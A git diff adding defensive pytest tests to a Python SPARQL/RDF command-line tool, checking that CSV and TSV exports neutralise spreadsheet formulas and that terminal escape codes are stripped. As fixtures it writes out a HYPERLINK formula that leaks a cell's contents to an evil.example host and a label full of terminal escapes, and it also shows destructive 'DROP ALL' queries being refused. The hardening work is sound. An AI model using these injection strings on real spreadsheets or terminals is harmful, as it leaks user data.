@@ -4,12 +4,13 @@ from __future__ import annotations
 import uuid
 
 import pytest
+from pyparsing import ParseResults
 from rdflib import Literal, Variable
 from rdflib.plugins.sparql.algebra import translateQuery
 from rdflib.plugins.sparql.parser import parseQuery
 
 import pgraph
-from conftest import assert_user_error, run_cli
+from conftest import MINI, assert_user_error, run_cli
 from pgraph.push import count_remote, push
 
 HOSTILE = [
@@ -125,3 +126,119 @@ def test_on_a_real_server_the_cli_binds_hostile_text_and_refuses_updates(served,
     assert_user_error(run_cli("sparql", "DROP ALL", *endpoint), "updates are refused")
     assert_user_error(run_cli("sparql", f"CLEAR GRAPH <{graph}>", *endpoint), "updates are refused")
     assert count_remote(remote) == before
+
+
+# --- data text that could act as code where it lands (issue 17) -----------------------------------
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
+ESCAPES = "Mediterranean\x1b]0;pwned\x07\x1b[2J\x9b31m Dialogue"
+
+
+@pytest.fixture(scope="module")
+def hostile_data(tmp_path_factory):
+    """The mini graph with one label that is a spreadsheet formula and one full of terminal escapes."""
+    folder = tmp_path_factory.mktemp("hostile")
+    text = (MINI / "graph.ttl").read_text(encoding="utf-8")
+    turtle_escapes = "".join(c if c.isprintable() else f"\\u{ord(c):04X}" for c in ESCAPES)
+    for old, new in (('"Partnership for Peace"@en', '"' + FORMULA.replace('"', '\\"') + '"@en'),
+                     ('"Mediterranean Dialogue"@en', f'"{turtle_escapes}"@en')):
+        assert old in text
+        text = text.replace(old, new)
+    (folder / "graph.ttl").write_text(text, encoding="utf-8")
+    return folder
+
+
+@pytest.mark.parametrize("fmt,delimiter", [("csv", ","), ("tsv", "\t")])
+def test_query_csv_and_tsv_guard_formulas_and_json_keeps_the_original(hostile_data, fmt, delimiter):
+    import csv
+    import json
+    result = run_cli("--data", str(hostile_data), "query", "instruments", "-f", fmt)
+    assert result.returncode == 0, result.stderr
+    rows = list(csv.DictReader(result.stdout.splitlines(), delimiter=delimiter))
+    labels = {r["instrument"]: r["label"] for r in rows}
+    assert labels["pfp"] == "'" + FORMULA  # shown as text by Excel, LibreOffice and Sheets
+    assert "\x1b" not in result.stdout and "\x07" not in result.stdout
+    as_json = run_cli("--data", str(hostile_data), "query", "instruments", "-f", "json")
+    kept = {r["instrument"]: r["label"] for r in json.loads(as_json.stdout)}
+    assert kept["pfp"] == FORMULA and kept["md"] == ESCAPES  # JSON keeps the data as it is
+
+
+def test_export_csv_guards_formulas_and_json_keeps_the_original(hostile_data, tmp_path):
+    import csv
+    import json
+    for ext in ("csv", "json"):
+        result = run_cli("--data", str(hostile_data), "export", "overlap", "--as-of", "2020-01-01",
+                         "-o", str(tmp_path / f"overlap.{ext}"))
+        assert result.returncode == 0, result.stderr
+    rows = list(csv.DictReader((tmp_path / "overlap.csv").read_text(encoding="utf-8").splitlines()))
+    cells = [v for r in rows for v in r.values()]
+    assert "'" + FORMULA in cells and FORMULA not in cells
+    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)
+    nodes = json.loads((tmp_path / "overlap.json").read_text(encoding="utf-8"))["nodes"]
+    assert FORMULA in {n.get("label") for n in nodes}
+
+
+@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "＝1"])
+def test_every_formula_start_is_guarded(text):
+    from pgraph.output import for_spreadsheet
+    assert for_spreadsheet(text).startswith("'") and for_spreadsheet("NATO") == "NATO"
+
+
+@pytest.mark.parametrize("args", [["query", "instruments"], ["query", "instruments", "-f", "md"],
+                                  ["validate", "--fail-on", "info"], ["query", "instruments", "-f", "csv"]])
+def test_terminal_escapes_in_labels_never_reach_the_terminal(hostile_data, args):
+    result = run_cli("--data", str(hostile_data), *args)
+    assert result.returncode in (0, 1), result.stderr
+    for raw in ("\x1b", "\x07", "\x9b"):
+        assert raw not in result.stdout and raw not in result.stderr
+    if args[-1] != "--fail-on" and "validate" not in args:
+        assert "Mediterranean\\x1b]0;pwned\\x07" in result.stdout  # shown, so the reader sees it is there
+
+
+def test_graphml_and_gexf_with_control_characters_are_written_parseable(hostile_data, tmp_path):
+    import xml.etree.ElementTree as ET
+    import igraph
+    import networkx as nx
+    for ext in ("graphml", "gexf", "dot"):
+        result = run_cli("--data", str(hostile_data), "export", "overlap", "--as-of", "2020-01-01",
+                         "-o", str(tmp_path / f"overlap.{ext}"))
+        assert result.returncode == 0 and "Traceback" not in result.stderr, result.stderr
+    ET.parse(tmp_path / "overlap.gexf")
+    labels = set(igraph.Graph.Read_GraphML(str(tmp_path / "overlap.graphml")).vs["label"])
+    assert "Mediterranean\\x1b]0;pwned\\x07\\x1b[2J\x9b31m Dialogue" in labels  # XML 1.0 holds C1, not ESC
+    gexf = nx.read_gexf(tmp_path / "overlap.gexf")
+    assert FORMULA in {d.get("label") for _, d in gexf.nodes(data=True)}
+
+
+# --- variables found by a SPARQL tokenizer, not a regular expression (issue 17) --------------------
+
+def test_a_parameter_next_to_less_than_and_ampersands_is_bound(tmp_path):
+    query = tmp_path / "below.rq"
+    query.write_text("#+ name: below\n#+ summary: numbers between 0 and n\n"
+                     "#+ params:\n#+   n: {type: xsd:integer, required: true}\n"
+                     "SELECT ?i WHERE { VALUES ?i { 1 2 3 4 5 } FILTER(?i<?n&&?i>0) } ORDER BY ?i\n",
+                     encoding="utf-8")
+    result = run_cli("--data", str(MINI), "query", str(query), "-p", "n=3", "-f", "csv")
+    assert result.returncode == 0, result.stderr
+    assert result.stdout.split() == ["i", "1", "2"]
+
+
+def test_the_tokenizer_finds_the_variables_rdflibs_parser_finds_in_every_saved_query(real):
+    from pgraph.store import variables
+    for saved in real.catalog:
+        found = set()
+
+        def walk(node):
+            if isinstance(node, Variable):
+                found.add(str(node))
+            elif isinstance(node, ParseResults):
+                for v in list(node) + list(node.as_dict().values()):
+                    walk(v)
+            elif isinstance(node, dict):
+                for v in node.values():
+                    walk(v)
+            elif isinstance(node, (list, tuple)):
+                for v in node:
+                    walk(v)
+        walk(parseQuery(saved.sparql))
+        assert variables(saved.sparql) == found, saved.name
